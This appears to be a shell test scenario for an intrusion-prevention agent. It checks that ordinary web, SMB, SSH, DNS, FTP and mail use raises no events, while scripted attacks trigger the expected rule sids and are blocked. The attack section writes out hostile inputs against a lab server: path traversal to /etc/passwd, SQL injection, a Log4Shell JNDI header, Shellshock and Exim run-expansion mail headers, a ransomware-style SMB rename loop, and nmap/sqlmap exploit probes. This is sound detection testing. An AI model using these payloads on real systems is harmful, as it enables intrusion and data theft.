# Intrusion Prevention on what real clients, servers and attackers say: the shipped rules of incoming connections, on the agent's
# queue and on what tcpdump wrote beside it. Ordinary use has no event, an attack exactly the events it should; both ways alike.
# seconds: 600
. "$TOP/tests/scenario/lib.sh"
YAGURA=$(program yagura)
SERVER=10.213.0.2 USER_IP=10.213.0.1 ATTACKER=10.214.0.1
# Sockets of Samba have to have short names.
S=$(mktemp -d /tmp/yagura-traffic.XXXXXX)
chmod 755 "$S"
trap 'cleanup; rm -rf "$S"' EXIT
mkdir -p "$WORK/www" "$S"/{share,samba/private,samba/lock,samba/rpc,ftp/pub,postfix,ssh,nginx}

# ---- the servers, each in the agent's namespace ----
serve() { # NAME COMMAND...
	local name=$1
	shift
	ip netns exec "$NS_A" "$@" >>"$WORK/$name.log" 2>&1 &
	PIDS+=("$!")
}
serve_http() {
	seq 2000 >"$WORK/www/list.txt"
	echo '<html><body><a href="/item?id=1">one</a><form action="/item"><input name="id"></form></body></html>' >"$WORK/www/index.html"
	cat >"$S/nginx.conf" <<-END
		pid $S/nginx/pid;
		error_log $S/nginx/error.log;
		worker_processes 1;
		daemon off;
		user root;
		events {}
		http {
			access_log $S/nginx/access.log;
			client_body_temp_path $S/nginx/body;
			proxy_temp_path $S/nginx/proxy;
			fastcgi_temp_path $S/nginx/fastcgi;
			uwsgi_temp_path $S/nginx/uwsgi;
			scgi_temp_path $S/nginx/scgi;
			gzip on;
			gzip_types text/plain application/json;
			server {
				listen 80;
				root $WORK/www;
				location /item { default_type text/html; return 200 "item \$arg_id"; }
				location /api { default_type application/json; return 200 '{"ok":true}'; }
			}
		}
	END
	serve nginx nginx -c "$S/nginx.conf"
}
serve_smb() {
	chmod 777 "$S/share"
	cat >"$S/smb.conf" <<-END
		[global]
		server role = standalone server
		map to guest = Bad User
		guest account = nobody
		server min protocol = NT1
		smb ports = 445
		load printers = no
		disable spoolss = yes
		log file = $S/samba/log
		pid directory = $S/samba
		lock directory = $S/samba/lock
		state directory = $S/samba
		cache directory = $S/samba
		private dir = $S/samba/private
		ncalrpc dir = $S/samba/rpc
		[share]
		path = $S/share
		guest ok = yes
		read only = no
		force user = root
	END
	serve smbd smbd -F -s "$S/smb.conf"
}
serve_ssh() {
	mkdir -p /run/sshd
	ssh-keygen -q -t ed25519 -N '' -f "$S/ssh/host"
	ssh-keygen -q -t ed25519 -N '' -f "$S/ssh/user"
	cp "$S/ssh/user.pub" "$S/ssh/authorized"
	cat >"$S/ssh/config" <<-END
		HostKey $S/ssh/host
		AuthorizedKeysFile $S/ssh/authorized
		PidFile none
		StrictModes no
		UsePAM no
		PermitRootLogin yes
		Subsystem sftp internal-sftp
	END
	serve sshd /usr/sbin/sshd -D -e -f "$S/ssh/config"
}
serve_dns() {
	serve dnsmasq dnsmasq --keep-in-foreground --conf-file=/dev/null --pid-file= --user=root --no-resolv --no-hosts --bind-interfaces \
		--listen-address=$SERVER --listen-address=$V4 --address=/example.test/10.1.2.3 --txt-record=example.test,"v=spf1 -all"
}
serve_ftp() {
	echo "a file" >"$S/ftp/pub/file"
	chmod 755 "$S/ftp"
	chmod 777 "$S/ftp/pub"
	cat >"$S/vsftpd.conf" <<-END
		listen=YES
		background=NO
		anonymous_enable=YES
		local_enable=NO
		anon_root=$S/ftp
		write_enable=YES
		anon_upload_enable=YES
		seccomp_sandbox=NO
		secure_chroot_dir=$S/nginx
		pasv_min_port=30000
		pasv_max_port=30100
	END
	serve vsftpd vsftpd "$S/vsftpd.conf"
}
serve_mail() {
	mkdir -p "$S/postfix/etc" "$S/postfix/queue" "$S/postfix/data"
	chown postfix "$S/postfix/data"
	cp /etc/postfix/master.cf.proto "$S/postfix/etc/master.cf" 2>/dev/null || cp /usr/share/postfix/master.cf.dist "$S/postfix/etc/master.cf"
	sed -i -E 's/^(\S+\s+\S+\s+\S+\s+\S+\s+)y(\s)/\1n\2/' "$S/postfix/etc/master.cf"
	cat >"$S/postfix/etc/main.cf" <<-END
		compatibility_level = 3.6
		queue_directory = $S/postfix/queue
		data_directory = $S/postfix/data
		maillog_file_prefixes = $S
		maillog_file = $S/postfix/log
		myhostname = mail.example.test
		mydestination = example.test
		inet_interfaces = $SERVER, $V4
		inet_protocols = ipv4
		local_transport = discard:
		default_transport = discard:
		local_recipient_maps =
		alias_maps =
		smtputf8_enable = no
	END
	postfix -c "$S/postfix/etc" check >>"$WORK/postfix.log" 2>&1
	serve postfix postfix -c "$S/postfix/etc" start-fg
}
listening() {
	local p
	for p in 80 445 22 53 21 25; do in_n nc -z -w 2 $V4 $p || return 1; done
}

# ---- what people do; each must work, so that it is the real thing that is looked at ----
web_use() {
	in_m curl -sf --compressed "http://$SERVER/" "http://$SERVER/list.txt" "http://$SERVER/item?id=7&name=O%27Brien%20%26%20sons" -o "$WORK/page" &&
		in_m curl -sf -X POST --json '{"query":"select a plan","union":"no"}' "http://$SERVER/api/orders" &&
		in_m curl -sf -d 'q=how+to+drop+a+table+in+sql' -d 'text=<b>5 < 6</b>' "http://$SERVER/api/search" &&
		in_m curl -sf -F "file=@$WORK/www/list.txt" "http://$SERVER/api/upload" &&
		in_m curl -sf -r 100-2000 "http://$SERVER/list.txt" -o "$WORK/page" &&
		in_m curl -sf --http2-prior-knowledge "http://$SERVER/" -o /dev/null || in_m curl -sf "http://$SERVER/" -o /dev/null
}
smb_use() {
	seq 30000 >"$WORK/big.txt"
	head -c 500000 /dev/urandom >"$WORK/archive.bin"
	in_m smbclient -N -s "$S/smb.conf" "//$SERVER/share" -c "put $WORK/big.txt big.txt; mkdir docs; cd docs; put $WORK/big.txt a.txt; rename a.txt b.txt; ls; cd ..; put $WORK/archive.bin archive.bin; get big.txt $WORK/again.txt; del big.txt" &&
		cmp "$WORK/big.txt" "$WORK/again.txt" && in_m smbclient -N -s "$S/smb.conf" -L "//$SERVER"
}
ssh_options() { echo -i "$S/ssh/user" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -F none; }
ssh_use() {
	# shellcheck disable=SC2046
	[ "$(in_m ssh $(ssh_options) root@$SERVER 'echo hello')" = hello ] &&
		in_m scp -q $(ssh_options) "$WORK/www/list.txt" root@$SERVER:"$S/ssh/copy" && cmp "$S/ssh/copy" "$WORK/www/list.txt"
}
dns_use() {
	[ "$(in_m dig +short @$SERVER www.example.test)" = 10.1.2.3 ] && [ "$(in_m dig +tcp +short @$SERVER example.test)" = 10.1.2.3 ] &&
		in_m dig +short @$SERVER example.test TXT | grep spf1 && in_m dig @$SERVER -x 10.1.2.3
}
ftp_use() {
	in_m curl -sf "ftp://$SERVER/pub/file" | grep 'a file' && in_m curl -sf -T "$WORK/www/list.txt" "ftp://$SERVER/pub/list-$RANDOM$RANDOM" &&
		in_m curl -sf --ftp-port - "ftp://$SERVER/pub/" | grep list-
}
mail_use() {
	in_m swaks --server $SERVER --from ann@example.org --to bob@example.test --attach "@$WORK/www/list.txt" --h-Subject "Minutes of Monday" \
		--body "See the attached list; (the second part follows) { soon }."
}

# ---- what attackers do: who, and the sids it has to give ----
# A family that no name gives away: what it does is all there is to see.
encrypt_attack() {
	local i words=''
	head -c 8192 /dev/urandom >"$WORK/encrypted"
	for i in $(seq 25); do words+="put $WORK/encrypted f$i.txt; rename f$i.txt f$i.x7q; "; done
	in_n timeout 60 smbclient -N -t 5 -s "$S/smb.conf" "//$V4/share" -c "$words"
}
sqlmap_attack() { in_n timeout 60 sqlmap -u "http://$V4/item?id=1" --batch --flush-session --output-dir="$S/sqlmap" --level 1 --technique=BEUST --threads 1 --disable-coloring; }
# nse PORT SCRIPTS [ARGS]
nse() { in_n nmap -n -Pn -sT -p "$1" --script "$2" ${3+--script-args "$3"} $V4; }
shell_attack() { nse 80 http-shellshock; }
struts_attack() { nse 80 http-vuln-cve2017-5638; }
smb_attack() { nse 445 smb-vuln-ms17-010,smb-double-pulsar-backdoor; }
samba_attack() { in_n smbclient -N -s "$S/smb.conf" "//$V4/share" -c 'put /etc/hostname x.so'; nse 445 smb-vuln-cve-2017-7494 smb-vuln-cve-2017-7494.check-version; }
ftp_attack() { nse 21 ftp-vsftpd-backdoor; }
dns_attack() { in_n dig @$V4 version.bind chaos txt; }
mail_attack() { in_n swaks --server $V4 --from 'root+${run{/bin/true}}@example.org' --to 'root+${run{x}}@example.test' --header 'X-Note: () { :;}; /bin/true'; }
web_attack() {
	in_n curl -s --path-as-is "http://$V4/../../../../etc/passwd" -o /dev/null
	in_n curl -s -G "http://$V4/item" --data-urlencode 'id=1 UNION SELECT user,pass FROM users--' -o /dev/null
	in_n curl -s -H 'User-Agent: ${jndi:ldap://192.0.2.1/a}' "http://$V4/" -o /dev/null
	in_n curl -s "http://$V4/.git/config" -o /dev/null
}
ransom_attack() {
	local i words="put $WORK/www/index.html f0.txt; rename f0.txt f0.lockbit; "
	# A rule counts the renames of a minute: nothing else is done in between.
	for i in $(seq 80); do words+="rename f$((i - 1)).lockbit f$i.lockbit; "; done
	in_n timeout 60 smbclient -N -t 5 -s "$S/smb.conf" "//$V4/share" -c "$words"
}

# ---- manager, agent, and every shipped rule about connections that come in ----
up 64
neighbour
serve_http
serve_smb
serve_ssh
serve_dns
serve_ftp
serve_mail
check_until "the servers answer" 120 listening

# What a client does, over connections: a bit of its address is set by one text and asked by the other.
cat >"$WORK/behaviour.rules" <<'END'
alert smb any any -> any 445 (msg:"Encrypted data written again and again"; flow:established,to_server; smb.version:2; smb.command:9; file.data; entropy:bytes 1024, value >= 7.7; detection_filter:track by_src, count 20, seconds 60; xbits:set,share.encrypted,track ip_src,expire 120; noalert; sid:1000010; rev:1;)
alert smb any any -> any 445 (msg:"Files renamed by a client that wrote encrypted data"; flow:established,to_server; smb.version:2; smb.command:17; file.name; bsize:>0; xbits:isset,share.encrypted,track ip_src; threshold:type limit,track by_src,count 1,seconds 60; sid:1000011; rev:1;)
END
BEHAVIOUR=$(api POST /intrusionpreventionrules "$(jq -n --rawfile t "$WORK/behaviour.rules" \
	'{name: "Encrypted data written and files renamed by one client", template: "custom", customXML: $t, severity: "critical"}')" | jq -r .ID)
api GET /applicationtypes | jq '[.applicationTypes[] | select(.direction == "incoming") | .ID]' >"$WORK/types"
api GET /intrusionpreventionrules | jq --slurpfile types "$WORK/types" \
	'[.intrusionPreventionRules[] | select(.applicationTypeID as $t | $types[0] | index($t))]' >"$WORK/rules.json"
jq -r '.[].customXML' "$WORK/rules.json" >"$WORK/incoming.rules"
cat "$WORK/behaviour.rules" >>"$WORK/incoming.rules"
check "the shipped rules of incoming connections are there" test "$(grep -c sid: "$WORK/incoming.rules")" -ge 300
base_policy "$(jq -c '{intrusionPrevention: {state: "detect", ruleIDs: (map(.ID) + [$b])}}' --argjson b "$BEHAVIOUR" "$WORK/rules.json")" >"$WORK/policy.out"
# mode WORD: the agent has the newest policy, and does that.
mode() {
	dsa_query -c GetAgentStatus >"$WORK/status" && grep -qx "AgentStatus.modules.intrusionprevention.state: $1" "$WORK/status" &&
		grep -qx "AgentStatus.modules.intrusionprevention.policyVersion: $(sed -n 's/^AgentStatus.policyVersion: //p' "$WORK/status")" "$WORK/status"
}
check_until "the agent detects" 180 mode detect
check "by every rule" grep -qx "AgentStatus.modules.intrusionprevention.rules: $(grep -c sid: "$WORK/incoming.rules")" "$WORK/status"

# ---- what is looked at, twice: events of the agent, alerts over what tcpdump wrote ----
PORTS='[80,445,22,53,21,25]'
# Each line: a client, the server's port, a sid. The client is whoever is not the server.
live() {
	api GET '/events/intrusionprevention?maxItems=5000' | jq -r --argjson ports "$PORTS" '.[] | arrays | .[] | select(.SignatureID) |
		(if .SourcePort as $p | $ports | index($p) then [.DestinationIP, .SourcePort] else [.SourceIP, .DestinationPort] end) + [.SignatureID] | @tsv' | sort -u
}
captured() {
	local i
	for i in veth0 far; do
		"$YAGURA" packets --rules "$WORK/incoming.rules" --pcap "$WORK/$i.pcap" --no-checksum --json
	done | jq -r --argjson ports "$PORTS" '(if .src_port as $p | $ports | index($p) then [.dest_ip, .src_port] else [.src_ip, .dest_port] end) + [.sid] |
		select(.[1] as $p | $ports | index($p)) | @tsv' | sort -u
}
DUMPS=()
dump() {
	local i
	for i in veth0 far; do
		ip netns exec "$NS_A" tcpdump --immediate-mode -U -s 0 -B 16384 -n -i $i -w "$WORK/$i.pcap" not port 4120 and not port 4119 2>"$WORK/tcpdump-$i.log" &
		DUMPS+=("$!")
		PIDS+=("$!")
		until_ok 10 grep -q listening "$WORK/tcpdump-$i.log"
	done
}
# The attacker has an address for each attack, so that no rule that counts by client sees two of them.
as() { ip -n "$NS_N" addr add "$1/24" dev near 2>/dev/null; ip -n "$NS_N" route replace 10.214.0.0/24 dev near src "$1"; }

USES="web_use smb_use ssh_use dns_use ftp_use mail_use"
declare -A EXPECTED=(
	[shell_attack]="9000600 9000602 9002002"
	[struts_attack]="9000100 9001562"
	[smb_attack]="9001400 9001403 9001407"
	[ftp_attack]="9001238"
	[dns_attack]="9001251"
	[mail_attack]="9001232 9001236"
	[web_attack]="9000201 9000612 9000619 9000633 9002000 9002003"
	[ransom_attack]="9001441 9001442"
	[encrypt_attack]="1000011"
)
ATTACKS="shell_attack struts_attack smb_attack ftp_attack dns_attack mail_attack web_attack ransom_attack encrypt_attack"

dump
for use in $USES; do check "ordinary use works: $use" "$use"; done
number=10
declare -A CLIENT=()
for attack in $ATTACKS; do
	number=$((number + 1))
	CLIENT[$attack]=10.214.0.$number
	as "${CLIENT[$attack]}"
	"$attack" >"$WORK/$attack.out" 2>&1
done
as 10.214.0.98
sqlmap_attack >"$WORK/sqlmap.out" 2>&1
# Events come in their order: when this one is there, all before it are.
marked() {
	as 10.214.0.99
	in_n curl -s -m 5 "http://$V4/.git/config" -o /dev/null
	live | grep -q "^10.214.0.99	"
}
check_until "the last attack has its event" 240 marked
written() { tcpdump -n -A -r "$WORK/far.pcap" src host 10.214.0.99 and dst port 80 | grep -aqF 'GET /.git/config'; }
check_until "and is in the capture" 120 written
kill -TERM "${DUMPS[@]}"
wait "${DUMPS[@]}"
dropped_none() { ! grep -hE '^[1-9][0-9]* packets dropped' "$WORK"/tcpdump-*.log; }
check "tcpdump wrote every packet" dropped_none
live >"$WORK/live"
captured >"$WORK/captured"
check "ordinary use has no event" test -z "$(grep "^$USER_IP	" "$WORK/live")"
check "and no alert from the capture" test -z "$(grep "^$USER_IP	" "$WORK/captured")"
for attack in $ATTACKS; do
	for way in live captured; do
		got=$(awk -v c="${CLIENT[$attack]}" '$1 == c { print $3 }' "$WORK/$way" | sort | xargs)
		if [ "$got" = "${EXPECTED[$attack]}" ]; then ok "$attack gives what it should, $way"; else not_ok "$attack gives what it should, $way" "$got, not ${EXPECTED[$attack]}"; fi
	done
done
# What sqlmap tries differs from run to run; these it always does.
for sid in 9000621 9000622 9001560 9002000; do check "sqlmap gives $sid" grep -qx "10.214.0.98	80	$sid" "$WORK/live"; done
check "the agent's queue and the capture say the same" diff "$WORK/live" "$WORK/captured"

# ---- Prevent ----
base_policy '{"intrusionPrevention":{"state":"prevent"}}' >/dev/null
check_until "the agent prevents" 180 mode prevent
for use in $USES; do check "ordinary use works in prevent mode: $use" "$use"; done
as 10.214.0.50
gets_nothing() { [ "$(in_n curl -s -m 20 -o /dev/null -w '%{http_code}' "$@")" = 000 ]; }
lines() { wc -l <"$S/nginx/access.log"; }
before=$(lines)
check "a traversal gets nothing" gets_nothing --path-as-is "http://$V4/../../../../etc/passwd"
check "nor does SQL in a form" gets_nothing "http://$V4/item" -d 'id=1+UNION+SELECT+1,2,3'
check "nor Log4Shell in a header" gets_nothing "http://$V4/" -A '${jndi:ldap://192.0.2.1/a}'
check "and nginx saw none of them" test "$(lines)" = "$before"
check "a mail with Shellshock is not taken" eval '! mail_attack'
rm -rf "${S:?}"/share/*
ransom_attack >"$WORK/ransom.out" 2>&1
check "no file is given the extension of ransomware" test "$(ls "$S/share")" = f0.txt
finish
